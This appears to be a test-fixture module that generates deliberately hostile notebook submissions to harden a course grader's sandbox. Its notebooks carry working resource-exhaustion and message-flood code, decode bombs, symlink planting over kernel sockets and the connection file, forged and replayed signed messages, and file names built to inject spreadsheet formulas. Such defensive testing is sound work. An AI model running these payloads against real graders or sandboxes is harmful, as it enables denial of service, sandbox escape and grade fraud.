"""The crafted submissions of issue 21 ("the grader under siege"), one per attack class, as an
ill-meaning learner would hand them in (tests/slow/test_sandbox_attacks.py grades them).

    write_siege(folder, host_socket, host_file) -> {class name: submission path relative to folder}

Each notebook is exercise 02 (it can earn only what its attack takes) or solution 02 (every
answer right) with attack cells added; the names below say which, and the test module says what
each must come to. The attacks run in the submission's kernel, as the sandboxed user, with what
that kernel can reach: its ipykernel (its sockets, its session key, so it can sign messages), its
connection file (read-only), its tmpfs folders (the working folder among them), fork and exec.

    REPLAY_STALL   solution 02, slow cells (1.5 s each), then cells that swallow the interrupt: each
                   costs a restart and a replay of every cell before it, slow ones included. (The
                   issue's stall, cells quick the first time and blocking only when replayed, kept
                   its mark in the run folder on the host; every folder a kernel can write is now
                   its sandbox's own tmpfs, gone with the kernel, so no mark survives a restart.)
    STDIN_FLOOD    1.75 GB on the stdin channel, which the grader never reads: single frames over
                   any frame limit, messages under it, and one message of 64 frames under it
    IOPUB_FLOOD    the same 1.75 GB on the output channel, which the grader reads
    EXPANSION      two answers of 500,000 opaque items each: under the size limit as JSON, a class
                   per item once decoded (the kernel's encoder is replaced to send them)
    DECODE_BOMBS   sympy text that is small but evaluates for hours: a Pow tower, a Float of 10**8
                   digits, factorial(10**8) (the kernel's encoder is replaced to send it)
    FOLDER_CHAIN   a folder chain 1,100 deep in the working folder (a recursive walk dies on it),
                   then three processes of 600 MB each
    SHARED_MEMORY  every tmpfs filled (/dev/shm, /tmp, the private folder), memfd files tried, then
                   800 MB of shared memory mapped by four forks: about 1.4 GB that no process's
                   private resident memory shows
    FALLOCATE      1 GB of blocks (fallocate, files of size 0) in the working folder
    PLANTED_LINKS  the socket names and the connection file replaced by symbolic links to a host
                   socket and a host file; the kernel's stdin socket closed so that a client
                   connected to it would reconnect by name; then a cell that forces a restart
    SURROGATE      solution 02 with lone surrogates in a comment, the stored output and the metadata
                   of an answer cell, in a markdown cell and in a string (valid JSON: an honest
                   notebook can carry them)
    BAD_SIGNATURE, REPLAYED, LIST_PARENT, DEEP_JSON
                   solution 02, and messages on the output and shell channels signed with the
                   kernel's own key: a wrong signature (on a forged "idle"), one sent twice, a list
                   as parent header, 100,000-deep JSON
    FULL_WIDTH     solution 02 named ０５_... (full-width digits: exercise 05 once normalised)
    TWO_CLAIMS     solution 02 with a check of exercise 06 that runs too (practice.check in a try)
    FORMULA_*      solution 02 under the names =1+1, +1+1 and @SUM(1+1), given as arguments, so
                   that the gradebook's first column starts with a spreadsheet formula
    DRAIN_FLOOD    solution 02, then a kernel that floods the shell channel (which the grader drains
                   after every request) for as long as it lives
    STATUS_FLOOD   the same on the output channel, where the status messages are
"""

from __future__ import annotations

import json
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell

ROOT = Path(__file__).resolve().parents[2]
SOL02, EX02 = ROOT / "solutions" / "02_sgd_by_hand.ipynb", ROOT / "exercises" / "02_sgd_by_hand.ipynb"

# the kernel's own ipykernel, as any cell can reach it: the app, the kernel, the working folder
KERNEL = """import os
from ipykernel.kernelapp import IPKernelApp
_app = IPKernelApp.instance()
_k = _app.kernel
_work = os.getcwd()
"""

SLOW = "import time\ntime.sleep(1.5)"
STUCK = """import time
while True:
    try:
        time.sleep(0.05)
    except BaseException:
        pass"""

FLOOD = """import time
session = _k.session
ident = list(_k._parent_ident["shell"])  # the grader's identity on the kernel's ROUTER sockets
big, part = b"x" * (64 * 2**20), memoryview(b"y" * (16 * 2**20))


def send(buffers):
    SEND(buffers)


for _ in range(4):
    send([big])  # single frames over any frame limit: 256 MB
for _ in range(32):
    send([part])  # messages under it: 512 MB
send([part] * 64)  # one message of 64 frames, each under it: 1 GB
time.sleep(5)
"""
STDIN_SEND = """def SEND(buffers):
    msg = session.msg("input_request", {"prompt": "", "password": False}, parent=_k.get_parent())
    _k.stdin_socket.send_multipart(session.serialize(msg, ident) + list(buffers), copy=False)
"""
IOPUB_SEND = """def SEND(buffers):
    content = {"data": {"text/plain": "flood"}, "metadata": {}}
    session.send(_k.iopub_socket, "display_data", content, parent=_k.get_parent(), buffers=list(buffers))
"""

RAW_ENCODER = """import sgdcourse.grading.remote as _remote


class Raw:
    # an answer that the kernel's encoder, replaced here, sends as the wire data given
    def __init__(self, data):
        self.data = data


def _raw_encode(value, *args, _encode=_remote.encode, **kwargs):
    return value.data if isinstance(value, Raw) else _encode(value, *args, **kwargs)


_remote.encode = _raw_encode
"""
# two answers of 500,000 opaque items each: 14 MB of JSON, under the 20 MB limit; decoded, every
# item becomes a class of its own (1.6 GB an answer)
EXPANSION = """item = {"t": "other", "type": "A"}
g1 = w2 = Raw({"t": "list", "v": [item] * 500_000})"""
BOMBS = """g1 = Raw({"t": "sympy", "v": "Pow(Pow(Integer(10), Integer(10000)), Integer(10000))"})
w2 = Raw({"t": "sympy", "v": "Float('1.5', 100000000)"})
w3 = Raw({"t": "sympy", "v": "factorial(Integer(100000000))"})"""

CHAIN = """import subprocess, sys, time
fd = os.open(_work, os.O_RDONLY)
for _ in range(1100):  # a folder chain 1,100 deep, each made relative to the one before
    os.mkdir("d", dir_fd=fd)
    deeper = os.open("d", os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = deeper
with open(os.open("bottom", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=fd), "wb") as f:
    f.write(b"x" * (48 * 2**20))
time.sleep(1)  # a recursive walk of the working folder dies on the chain
HOLD = "import time\\nb = bytearray(600 * 2**20)\\nfor k in range(0, len(b), 4096):\\n    b[k] = 1\\n"
HOLD += "print(1, flush=True)\\ntime.sleep(60)"
kids = [subprocess.Popen([sys.executable, "-c", HOLD], stdout=subprocess.PIPE) for _ in range(3)]
for kid in kids:  # 3 x 600 MB: together past the memory limit, each under it
    kid.stdout.readline()
time.sleep(7)
"""

SHARED = """import mmap, os, time
chunk = b"\\1" * (8 * 2**20)


def fill(folder):
    # files of 200 MB (under the 256 MB file limit) until the folder is full
    for k in range(8):
        try:
            with open(os.path.join(folder, f"held{k}"), "wb") as f:
                for _ in range(25):
                    f.write(chunk)
        except OSError:
            return


for folder in ("/dev/shm", "/tmp", os.environ.get("TMPDIR", "/tmp")):
    fill(folder)
held = []
for k in range(4):  # memfd files: shared memory in no mount at all, 800 MB (if the sandbox allows them)
    try:
        fd = os.memfd_create(f"held{k}")
    except OSError:
        break
    for _ in range(25):
        os.write(fd, chunk)
    held.append(fd)
for _ in range(4):  # shared memory mapped by forks: 800 MB
    if os.fork() == 0:
        m = mmap.mmap(-1, 200 * 2**20, flags=mmap.MAP_SHARED)
        for k in range(0, len(m), 4096):
            m[k] = 1
        time.sleep(30)
        os._exit(0)
time.sleep(7)
"""

FALLOCATE = """import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]
KEEP_SIZE = 1  # the blocks are allocated, the file's size stays 0
for k in range(4):
    fd = os.open(os.path.join(_work, f"blocks{k}"), os.O_WRONLY | os.O_CREAT, 0o600)
    if libc.fallocate(fd, KEEP_SIZE, 0, 256 * 2**20):
        raise OSError(ctypes.get_errno(), "fallocate was refused")
time.sleep(7)
"""

LINKS = """import json, time, zmq
TARGET, HOST_FILE = {target!r}, {host_file!r}
info = json.load(open(_app.abs_connection_file))
prefix = info["ip"]  # ipc transport: the sockets are <ip>-<port>
url = _k.stdin_socket.getsockopt(zmq.LAST_ENDPOINT).decode()
_k.stdin_socket.close(linger=0)  # the grader's stdin socket loses its peer, and reconnects by name
planted = []


def plant(path, target):
    try:
        os.symlink(target, path + ".planted")
        os.replace(path + ".planted", path)
        planted.append(path)
    except OSError as exc:
        print("refused:", path, exc)


plant(url[len("ipc://") :], TARGET)
for key in ("shell_port", "iopub_port", "control_port", "hb_port"):
    plant(f"{{prefix}}-{{info[key]}}", TARGET)  # the live sockets' names
for port in range(1, 40):  # and the names the next kernel would take
    if not os.path.lexists(f"{{prefix}}-{{port}}"):
        plant(f"{{prefix}}-{{port}}", TARGET)
plant(_app.abs_connection_file, HOST_FILE)
print(len(planted), "links planted")
time.sleep(5)
"""

RAW = """import json
session = _k.session
request = _k.get_parent()["header"]  # the request the grader is waiting on


def pack(obj):
    return json.dumps(obj, default=str).encode()


def signed(kind, parent_header, content):
    parts = [pack(session.msg_header(kind)), parent_header, b"{}", content]
    return [b"<IDS|MSG>", session.sign(parts), *parts]


def send(frames):
    _k.iopub_socket.send_multipart(frames)  # the output channel
    ident = list(_k._parent_ident["shell"])
    loop = _k.shell_channel_thread.io_loop  # the shell channel, which the grader drains
    loop.add_callback(lambda: _k.shell_stream.send_multipart(ident + frames))


"""
BAD_SIGNATURE = """frames = signed("status", pack(request), pack({"execution_state": "idle"}))
frames[1] = b"0" * len(frames[1])  # a forged 'idle' for the grader's request, wrongly signed
send(frames)"""
REPLAYED = """frames = signed("stream", pack(request), pack({"name": "stdout", "text": "once"}))
send(frames)
send(frames)  # the same signature twice"""
LIST_PARENT = """send(signed("status", b"[]", pack({"execution_state": "busy"})))"""
DEEP_JSON = """send(signed("stream", pack(request), b"[" * 100_000 + b"]" * 100_000))"""

# floods that never stop: each message costs the grader some 50 ms (one constant header of 10,000
# dates, each parsed into a datetime by jupyter_client), and the kernel one small update of a
# copied HMAC state (the content, signed last, varies), so the kernel always sends faster
FLOOD_FOREVER = """import json, threading, time
session = _k.session
ident = list(_k._parent_ident["shell"])
dates = ["2020-01-01T00:00:00Z"] * 10_000
header = json.dumps({**session.msg_header("stream"), "padding": dates}, default=str).encode()
signer = session.auth.copy()
for part in (header, b"{}", b"{}"):
    signer.update(part)
count = [0]


def message(topic=()):
    count[0] += 1
    content = b'{"name": "stdout", "text": "%d"}' % count[0]
    h = signer.copy()
    h.update(content)
    return [*topic, b"<IDS|MSG>", h.hexdigest().encode(), header, b"{}", b"{}", content]


"""
DRAIN = """loop = _k.shell_channel_thread.io_loop


def flood():  # the shell channel, which the grader drains after every request
    if not _k.shell_stream.sending():
        for _ in range(200):
            _k.shell_stream.send_multipart(message(ident), copy=False)
    loop.call_later(0.001, flood)


loop.add_callback(flood)"""
STATUS = """def shout():  # the output channel, where the status messages are, from a thread
    while True:
        for _ in range(100):
            _k.iopub_socket.send_multipart(message(), copy=False)
        time.sleep(0.005)


threading.Thread(target=shout, daemon=True).start()"""

# a check of exercise 06 that runs whenever its cell runs (a try body, through the module)
TWO_CLAIMS = """try:
    from sgdcourse import practice

    practice.check("06-threshold", 0.1)
except Exception:
    pass"""
SURROGATE_CODE = 'note = "a stray half of an emoji: \ud83d, and a byte that was not UTF-8: \udcff"'


def with_cells(source, *codes, first=False, prefix="siege"):
    """The notebook at source with code cells added (at the end, or after its first cell), their
    ids prefix-0, prefix-1, ..."""
    nb = nbformat.read(source, as_version=4)
    at = 1 if first else len(nb.cells)
    for k, code in enumerate(codes):
        nb.cells.insert(at + k, new_code_cell(code, id=f"{prefix}-{k}"))
    return nb


def replay_stall():
    """Solution 02, four slow cells, then three that swallow the interrupt: the first run takes
    some 6 s + 13 s, and each restart replays every cell before the stuck one, the slow ones too."""
    nb = nbformat.read(SOL02, as_version=4)
    nb.cells += [new_code_cell(SLOW, id=f"siege-slow-{k}") for k in range(4)]
    nb.cells += [new_code_cell(STUCK, id=f"siege-stuck-{k}") for k in range(3)]
    return nb


def surrogate_bytes():
    """Solution 02 with lone surrogates (a comment, the stored output and the metadata of the w3
    cell, a markdown cell, a string in a code cell of its own), as the bytes of a notebook file:
    JSON escapes, so the file itself is valid UTF-8 and valid JSON."""
    nb = nbformat.read(SOL02, as_version=4)
    cell = next(c for c in nb.cells if c.get("id") == "sol02-17")
    cell.source = cell.source.replace("# example i is row i - 1", "# example i is row i - 1 \ud83d")
    assert "\ud83d" in cell.source
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="printed \ud83d\n")]
    cell.metadata["note"] = "\udcff"
    nb.cells.append(new_markdown_cell("A broken emoji: \udcff\ud83d", id="siege-md"))
    nb.cells.append(new_code_cell(SURROGATE_CODE, id="siege-str"))
    return json.dumps(nb, ensure_ascii=True, indent=1).encode("ascii")


def write_siege(folder, host_socket, host_file):
    """Write every crafted submission into folder (made if missing); {class: path relative to
    folder}. host_socket and host_file: host paths that the planted links lead to."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    sol, ex = SOL02.read_bytes(), EX02
    nbs = {
        "REPLAY_STALL": ("02_replay_stall.ipynb", replay_stall()),
        "STDIN_FLOOD": ("02_stdin_flood.ipynb", with_cells(ex, KERNEL + STDIN_SEND + FLOOD)),
        "IOPUB_FLOOD": ("02_iopub_flood.ipynb", with_cells(ex, KERNEL + IOPUB_SEND + FLOOD)),
        "EXPANSION": ("02_expansion.ipynb", with_cells(ex, RAW_ENCODER + EXPANSION)),
        "DECODE_BOMBS": ("02_decode_bombs.ipynb", with_cells(ex, RAW_ENCODER + BOMBS)),
        "FOLDER_CHAIN": ("02_folder_chain.ipynb", with_cells(ex, KERNEL + CHAIN)),
        "SHARED_MEMORY": ("02_shared_memory.ipynb", with_cells(ex, SHARED)),
        "FALLOCATE": ("02_fallocate.ipynb", with_cells(ex, KERNEL + FALLOCATE)),
        "PLANTED_LINKS": (
            "02_planted_links.ipynb",
            with_cells(ex, KERNEL + LINKS.format(target=str(host_socket), host_file=str(host_file)), STUCK),
        ),
        "BAD_SIGNATURE": ("02_bad_signature.ipynb", with_cells(SOL02, KERNEL + RAW + BAD_SIGNATURE)),
        "REPLAYED": ("02_replayed.ipynb", with_cells(SOL02, KERNEL + RAW + REPLAYED)),
        "LIST_PARENT": ("02_list_parent.ipynb", with_cells(SOL02, KERNEL + RAW + LIST_PARENT)),
        "DEEP_JSON": ("02_deep_json.ipynb", with_cells(SOL02, KERNEL + RAW + DEEP_JSON)),
        "TWO_CLAIMS": (
            "02_two_claims.ipynb",
            with_cells(SOL02, TWO_CLAIMS),
        ),
        "DRAIN_FLOOD": ("02_drain_flood.ipynb", with_cells(SOL02, KERNEL + FLOOD_FOREVER + DRAIN)),
        "STATUS_FLOOD": ("02_status_flood.ipynb", with_cells(SOL02, KERNEL + FLOOD_FOREVER + STATUS)),
    }
    paths = {}
    for kind, (name, nb) in nbs.items():
        nbformat.write(nb, folder / name)
        paths[kind] = name
    for kind, name, data in (
        ("SURROGATE", "02_surrogate.ipynb", surrogate_bytes()),
        ("FULL_WIDTH", "\uff10\uff15_sgd_by_hand.ipynb", sol),
    ):
        (folder / name).write_bytes(data)
        paths[kind] = name
    return paths


# given as arguments of their own, so that the path in the gradebook starts with the formula
FORMULAS = {"FORMULA_EQUALS": "=1+1.ipynb", "FORMULA_PLUS": "+1+1.ipynb", "FORMULA_AT": "@SUM(1+1).ipynb"}


def write_formulas(folder):
    """Solution 02 under each name of FORMULAS in folder; {class: file name}."""
    for name in FORMULAS.values():
        (Path(folder) / name).write_bytes(SOL02.read_bytes())
    return dict(FORMULAS)
